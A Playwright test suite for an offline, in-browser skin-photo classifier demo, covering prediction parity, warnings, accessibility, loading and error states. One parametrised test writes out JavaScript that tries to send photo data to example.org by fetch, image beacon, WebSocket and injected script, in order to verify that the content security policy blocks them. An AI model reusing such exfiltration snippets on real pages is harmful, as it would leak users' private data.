"""The built site in a real browser: over http under a sub-path, and opened from disk."""

from __future__ import annotations

import base64
import io
import json
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image
from playwright.sync_api import Browser, BrowserContext, Page, Route

from builder.classes import CLASSES, CODES
from builder.data.demo import draw_demo_photos
from builder.serve import SUB_PATH, make_server
from tests.conftest import REPOSITORY, Build, run_build_py
from tests.photo_cases import png_header
from tests.visiting import METERED

AXE = (REPOSITORY / "node_modules" / "axe-core" / "axe.min.js").read_text(encoding="utf-8")
WARNINGS = (
    "For educational purposes only",
    "Not for diagnosis or treatment decisions",
    "Consult a dermatologist about any concern",
    "Never delay care because of a result",
    "Accuracy is not guaranteed and varies with image quality",
)
DONE = "main[data-state=result], main[data-state=error]"
LOADED = "main[data-state=ready], main[data-state=error]"
LAST_SHARD = "**/group1-shard1of1.bin"  # of the network that answers first
WAIT_MS = 120_000  # a CPU backend takes seconds a photo, and test machines are slow


@pytest.fixture(scope="module")
def http(demo_build: Build) -> Iterator[str]:
    """The site's address over http, under a sub-path."""
    with make_server(demo_build.site, 0) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}{SUB_PATH}"
        server.shutdown()


@pytest.fixture(scope="module", params=["http", "disk"])
def address(request: pytest.FixtureRequest, demo_build: Build, http: str) -> str:
    return http if request.param == "http" else demo_build.site.as_uri() + "/"


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    # Requests that go by a service worker would be hidden from the tests; test_offline.py has it.
    context = browser.new_context(viewport={"width": 390, "height": 844}, service_workers="block")
    context.set_default_timeout(WAIT_MS)
    context.add_init_script(METERED)
    yield context
    context.close()


@pytest.fixture
def open_page(context: BrowserContext) -> Iterator[Callable[..., Page]]:
    """Opens a page of the site and fails the test if the page reports an error of its own."""
    errors: list[str] = []

    def opened(address: str, *, loaded: bool = True) -> Page:
        page = context.new_page()
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.goto(address)
        if loaded:
            page.wait_for_selector(LOADED)
        return page

    yield opened
    assert errors == []


@pytest.fixture(scope="session")
def photos(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    """Three drawn photos of unlike classes as files, at twice the network's size."""
    folder = tmp_path_factory.mktemp("photos")
    drawn = draw_demo_photos(12, seed=99, width_px=200, height_px=150)
    by_code = {photo.code: photo for photo in drawn}
    files = []
    for code, photo in list(by_code.items())[:3]:
        files.append(folder / f"{code}.png")
        Image.fromarray(photo.pixels).save(files[-1])
    return files


def choose(page: Page, photo: Path | dict[str, Any]) -> None:
    page.set_input_files("#photo", photo)  # type: ignore[arg-type]


def answer(page: Page, photo: Path | dict[str, Any]) -> dict[str, float]:
    """Choose a photo, wait for the answer, and read it from the page's rows."""
    choose(page, photo)
    page.wait_for_selector(DONE)
    assert page.get_attribute("main", "data-state") == "result", page.inner_text("[role=alert]")
    return rows(page)


def rows(page: Page) -> dict[str, float]:
    found = page.eval_on_selector_all(
        "[data-code]", "rows => rows.map(row => [row.dataset.code, row.dataset.probability])"
    )
    return {code: float(probability) for code, probability in found}


def violations(page: Page) -> list[str]:
    page.evaluate(AXE)
    found = page.evaluate("async () => (await axe.run()).violations")
    return [f"{one['id']}: {node['html']}" for one in found for node in one["nodes"]]


def hold(page: Page, pattern: str) -> list[Route]:
    """Keep a request back until the test lets it go on."""
    held: list[Route] = []

    def keep(route: Route) -> None:
        held.append(route)

    page.route(pattern, keep)
    return held


def let_go(page: Page, held: list[Route]) -> None:
    """Let the request go on; the page may not have come to it yet."""
    while not held:
        page.wait_for_timeout(20)
    held[0].continue_()


def file_of(name: str, content: bytes) -> dict[str, Any]:
    return {"name": name, "mimeType": "image/png", "buffer": content}


def png(width: int, height: int) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (width, height), (200, 150, 140)).save(file, "PNG")
    return file.getvalue()


def test_a_photo_gets_the_same_answer_as_from_the_terminal(
    address: str, open_page: Callable[..., Page], photos: list[Path], demo_build: Build
) -> None:
    told = run_build_py("--site", demo_build.site, "predict", "--json", *photos)
    expected = [row["probabilities"] for row in json.loads(told.stdout)["photos"]]
    page = open_page(f"{address}index.html")
    for photo, probabilities in zip(photos, expected, strict=True):
        given = answer(page, photo)
        assert given == pytest.approx(probabilities, abs=0.001)


def test_the_answer_shows_all_classes_sorted_with_group_and_the_five_warnings(
    address: str, open_page: Callable[..., Page], photos: list[Path]
) -> None:
    page = open_page(f"{address}index.html")
    given = answer(page, photos[0])
    assert sorted(given) == sorted(CODES)
    assert list(given.values()) == sorted(given.values(), reverse=True)
    assert sum(given.values()) == pytest.approx(1, abs=1e-5)
    shown = page.inner_text("main")
    best = next(iter(given))
    for kind in CLASSES:
        row = page.inner_text(f"[data-code={kind.code}]")
        assert kind.name in row and kind.group in row and "%" in row
        if kind.code == best:
            assert kind.name.lower() in page.inner_text("#answer").lower() and kind.plain in shown
    for warning in WARNINGS:
        assert page.get_by_text(warning).is_visible()
    assert "Built from drawn images. Its answers mean nothing for real skin." in page.inner_text("body")
    treated = sum(given[kind.code] for kind in CLASSES if kind.is_malignant)
    assert f"{treated:.0%}".rstrip("%") in page.inner_text("#answer-together") or treated < 0.1 or treated > 0.99
    assert page.eval_on_selector("#seen-image", "canvas => canvas.width / canvas.height") == pytest.approx(
        4 / 3, abs=0.01
    )


def test_the_page_claims_only_what_the_report_says(
    address: str, open_page: Callable[..., Page], demo_build: Build
) -> None:
    page = open_page(f"{address}index.html", loaded=False)
    test = demo_build.report["networks"][demo_build.first_network]["test"]
    claim = page.inner_text(".track-record")
    assert f"On {test['photos']} drawn test images" in claim
    assert f"{round(100 * test['accuracy']['value'])} of 100" in claim
    assert page.get_attribute(".track-record a", "href") == "report.html"


def test_nothing_is_asked_of_anybody_else(http: str, context: BrowserContext, photos: list[Path]) -> None:
    page = context.new_page()
    asked: list[tuple[str, str, str | None]] = []
    page.on("request", lambda request: asked.append((request.method, request.url, request.post_data)))
    page.goto(f"{http}index.html")
    page.wait_for_selector(LOADED)
    before = len(asked)
    answer(page, photos[0])
    sent_for_the_photo = [url for _, url, _ in asked[before:] if not url.startswith("blob:")]
    assert sent_for_the_photo == []
    for method, url, body in asked:
        assert method == "GET" and body is None
        assert url.startswith((http, f"blob:{http.partition(SUB_PATH)[0]}")), url
        assert "?" not in url


@pytest.mark.parametrize(
    "attempt",
    [
        "fetch('https://example.org/', {method: 'POST', body: 'photo', mode: 'no-cors'})",
        "new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = fail; "
        "i.src = 'https://example.org/x.png?photo'; })",
        "new Promise((done, fail) => { const s = new WebSocket('wss://example.org'); "
        "s.onopen = done; s.onerror = fail; })",
        "new Promise((done, fail) => { const s = document.createElement('script'); s.onload = done; s.onerror = fail; "
        "s.src = 'https://example.org/x.js'; document.head.append(s); })",
    ],
    ids=["fetch", "image", "socket", "script"],
)
def test_the_policy_lets_nothing_out(http: str, context: BrowserContext, attempt: str) -> None:
    page = context.new_page()
    left: list[str] = []

    def note(route: Route) -> None:
        left.append(route.request.url)
        route.abort()

    page.route("**/*example.org/**", note)
    page.goto(f"{http}report.html")
    page.goto(f"{http}index.html")
    outcome = page.evaluate(
        f"""async () => {{
          const blocked = [];
          document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
          let wentOut = true;
          try {{ await ({attempt}); }} catch {{ wentOut = false; }}
          await new Promise((done) => setTimeout(done, 100));
          return {{ wentOut, blocked: blocked.length }};
        }}"""
    )
    assert outcome["wentOut"] is False and outcome["blocked"] > 0
    assert left == []


def test_loading_is_told_in_real_bytes(http: str, context: BrowserContext, demo_build: Build) -> None:
    page = context.new_page()
    total = demo_build.report["networks"][demo_build.first_network]["export"]["bytes"]
    held = hold(page, LAST_SHARD)
    page.goto(f"{http}index.html")
    page.wait_for_function("() => document.querySelector('#status-bar').value > 0")
    shard = (demo_build.site / "model" / demo_build.first_network / LAST_SHARD.removeprefix("**/")).stat().st_size
    page.wait_for_function(
        f"() => Math.abs(document.querySelector('#status-bar').value - {(total - shard) / total}) < 1e-6"
    )
    assert page.get_attribute("main", "data-state") == "loading"
    assert f"of {int(total / 1e6 + 0.5)} MB" in page.inner_text("#status-text")
    let_go(page, held)
    page.wait_for_selector("main[data-state=ready]")
    assert "ready" in page.inner_text("#status-text")


def test_a_photo_chosen_while_the_network_loads_is_answered_afterwards(
    http: str, context: BrowserContext, photos: list[Path]
) -> None:
    page = context.new_page()
    held = hold(page, LAST_SHARD)
    page.goto(f"{http}index.html")
    page.wait_for_function("() => document.querySelector('#status-bar').value > 0")
    choose(page, photos[0])
    assert page.get_attribute("main", "data-state") == "loading"
    assert photos[0].name in page.inner_text("main")
    let_go(page, held)
    page.wait_for_selector("main[data-state=result]")
    assert len(rows(page)) == 7


def test_a_network_that_cannot_be_loaded_is_told_and_can_be_tried_again(
    http: str, context: BrowserContext, photos: list[Path]
) -> None:
    page = context.new_page()
    page.route(LAST_SHARD, lambda route: route.fulfill(status=503))
    page.goto(f"{http}index.html")
    page.wait_for_selector("main[data-state=error]")
    assert "Try again" in page.inner_text("[role=alert]")
    page.unroute(LAST_SHARD)
    page.get_by_role("button", name="Try again").click()
    page.wait_for_selector("main[data-state=ready]")
    assert len(answer(page, photos[0])) == 7


def test_the_second_of_two_photos_wins(address: str, open_page: Callable[..., Page], photos: list[Path]) -> None:
    page = open_page(f"{address}index.html")
    expected = answer(page, photos[1])
    # Both within one task of the page, so that the first is surely still being worked on.
    states = page.evaluate(
        """async ([first, second]) => {
          const file = ({ name, content }) =>
            new File([Uint8Array.from(content)], name, { type: "image/png" });
          const input = document.querySelector("#photo"), main = document.querySelector("main");
          const states = [];
          const watcher = new MutationObserver(() => states.push(main.dataset.state));
          watcher.observe(main, { attributeFilter: ["data-state"] });
          for (const each of [first, second]) {
            const chosen = new DataTransfer();
            chosen.items.add(file(each));
            input.files = chosen.files;
            input.dispatchEvent(new Event("change", { bubbles: true }));
          }
          while (main.dataset.state !== "result") await new Promise((done) => setTimeout(done, 20));
          await new Promise((done) => setTimeout(done, 500));
          return states;
        }""",
        [{"name": photo.name, "content": list(photo.read_bytes())} for photo in (photos[0], photos[1])],
    )
    assert states.count("result") == 1
    assert rows(page) == expected


def test_the_same_photo_twice_is_answered_twice(http: str, open_page: Callable[..., Page], photos: list[Path]) -> None:
    page = open_page(f"{http}index.html")
    first = answer(page, photos[0])
    page.evaluate("document.querySelector('main').dataset.state = 'test'")
    assert answer(page, photos[0]) == first


def test_a_dropped_photo_is_answered(http: str, open_page: Callable[..., Page], photos: list[Path]) -> None:
    page = open_page(f"{http}index.html")
    page.evaluate(
        """(content) => {
          const dropped = new DataTransfer();
          dropped.items.add(new File([Uint8Array.from(content)], "dropped.png", { type: "image/png" }));
          for (const type of ["dragenter", "dragover", "drop"]) {
            const event = new DragEvent(type, { dataTransfer: dropped, bubbles: true, cancelable: true });
            document.body.dispatchEvent(event);
          }
        }""",
        list(photos[0].read_bytes()),
    )
    page.wait_for_selector("main[data-state=result]")
    assert len(rows(page)) == 7


def test_what_cannot_be_used_is_told_and_the_page_goes_on(
    address: str, open_page: Callable[..., Page], photos: list[Path]
) -> None:
    page = open_page(f"{address}index.html")
    good = photos[0].read_bytes()
    bad = {
        "text.png": b"this is no photo",
        "empty.png": b"",
        "broken.png": good[: len(good) // 2],
        "small.png": png(90, 75),
        "huge.png": png_header(10_000, 10_000),  # 100 megapixels
    }
    messages = set()
    for name, content in bad.items():
        choose(page, file_of(name, content))
        page.wait_for_selector("main[data-state=error]")
        message = page.inner_text("[role=alert]")
        assert len(message) > 20 and "undefined" not in message
        messages.add(message)
        assert rows(page) == {}
        assert len(answer(page, photos[0])) == 7
        assert page.inner_text("[role=alert]") == ""
    assert len(messages) >= 4


@pytest.mark.parametrize("backend", ["wasm", "webgl", "cpu"])
def test_every_backend_gives_keras_probabilities(
    http: str, open_page: Callable[..., Page], demo_build: Build, backend: str
) -> None:
    page = open_page(f"{http}index.html?backend={backend}")
    assert page.get_attribute("main", "data-state") == "ready"
    assert page.get_attribute("main", "data-backend") == backend
    card = json.loads((demo_build.site / "model" / demo_build.first_network / "card.json").read_text(encoding="utf-8"))
    for vector in card["self_test"]["vectors"][: 3 if backend == "wasm" else 1]:  # the others take seconds a photo
        pixels = np.frombuffer(base64.b64decode(vector["pixels"]), np.uint8).reshape(75, 100, 3)
        file = io.BytesIO()
        Image.fromarray(pixels).save(file, "PNG")
        given = answer(page, file_of("vector.png", file.getvalue()))
        assert [given[code] for code in CODES] == pytest.approx(vector["probabilities"], abs=0.001)


def test_a_backend_that_computes_wrongly_is_not_trusted(http: str, context: BrowserContext, demo_build: Build) -> None:
    page = context.new_page()
    card = json.loads((demo_build.site / "model" / demo_build.first_network / "card.json").read_text(encoding="utf-8"))
    for vector in card["self_test"]["vectors"]:
        vector["probabilities"] = vector["probabilities"][::-1]
    page.route("**/card.json", lambda route: route.fulfill(json=card))
    page.goto(f"{http}index.html?backend=wasm")
    page.wait_for_selector("main[data-state=error]")
    assert page.inner_text("[role=alert]") != ""


def test_no_tensor_is_left_behind(http: str, open_page: Callable[..., Page], photos: list[Path]) -> None:
    page = open_page(f"{http}index.html")
    answer(page, photos[0])
    [worker] = page.workers
    before = worker.evaluate("tf.memory()")
    for photo in (photos[1], photos[2], photos[0]):
        answer(page, photo)
    after = worker.evaluate("tf.memory()")
    assert (after["numTensors"], after["numBytes"]) == (before["numTensors"], before["numBytes"])


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [390, 1280])
def test_every_state_is_accessible(browser: Browser, http: str, photos: list[Path], scheme: Any, width: int) -> None:
    context = browser.new_context(viewport={"width": width, "height": 844}, color_scheme=scheme)
    context.set_default_timeout(WAIT_MS)
    page = context.new_page()
    held = hold(page, LAST_SHARD)
    page.goto(f"{http}index.html")
    page.wait_for_function("() => document.querySelector('#status-bar').value > 0")
    assert violations(page) == [], "loading"
    let_go(page, held)
    page.wait_for_selector("main[data-state=ready]")
    assert violations(page) == [], "ready"
    choose(page, file_of("text.png", b"no photo"))
    page.wait_for_selector("main[data-state=error]")
    assert violations(page) == [], "error"
    answer(page, photos[0])
    assert violations(page) == [], "result"
    for name in ("report.html", "404.html"):
        page.goto(http + name)
        page.eval_on_selector_all("details", "all => all.forEach((one) => { one.open = true; })")
        assert violations(page) == [], name
    context.close()


@pytest.mark.parametrize("name", ["index.html", "report.html", "404.html"])
def test_no_page_scrolls_sideways_at_320_px(browser: Browser, http: str, name: str, photos: list[Path]) -> None:
    page = browser.new_page(viewport={"width": 320, "height": 640})
    page.set_default_timeout(WAIT_MS)
    page.goto(http + name)
    if name == "index.html":
        page.wait_for_selector(LOADED)
        answer(page, photos[0])
    page.eval_on_selector_all("details", "all => all.forEach((one) => { one.open = true; })")
    assert page.evaluate("document.documentElement.scrollWidth") <= 320
    page.close()


def test_the_photo_can_be_chosen_with_the_keyboard(
    http: str, open_page: Callable[..., Page], photos: list[Path]
) -> None:
    page = open_page(f"{http}index.html")
    for _ in range(10):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.id") == "photo":
            break
    with page.expect_file_chooser() as chooser:
        page.keyboard.press("Space")
    chooser.value.set_files(photos[0])
    page.wait_for_selector("main[data-state=result]")


def test_an_unknown_address_leads_back_to_the_start(http: str, context: BrowserContext) -> None:
    page = context.new_page()
    page.goto(f"{http}no-such-page")
    assert page.eval_on_selector("body", "body => getComputedStyle(body).fontFamily") != ""
    page.get_by_role("link", name="start page").click()
    page.wait_for_selector("main[data-state]")


def test_every_address_in_the_site_is_relative_and_leads_to_a_file(demo_build: Build, context: BrowserContext) -> None:
    page = context.new_page()
    for name in ("index.html", "report.html"):
        page.goto((demo_build.site / name).as_uri())
        found = page.eval_on_selector_all(
            "[src], [href]", "all => all.map((one) => one.getAttribute('src') ?? one.getAttribute('href'))"
        )
        local = [each for each in found if each and not each.startswith(("#", "blob:"))]
        assert local
        for each in local:
            if each.startswith("https://doi.org/"):  # a citation that a reader may follow
                continue
            assert "://" not in each and not each.startswith("/"), each
            assert (demo_build.site / each.partition("#")[0]).exists(), each


def test_the_report_shows_the_figures_of_the_report_file(http: str, context: BrowserContext, demo_build: Build) -> None:
    page = context.new_page()
    page.goto(f"{http}report.html")
    network = demo_build.report["networks"][demo_build.first_network]
    shown = page.inner_text("body")
    assert f"{round(100 * network['test']['accuracy']['value'])}" in shown
    for row in network["confusion"]:
        for count in row:
            assert str(count) in shown
    assert page.locator("svg[role=img]").count() >= 9  # two learning curves and seven ROC curves
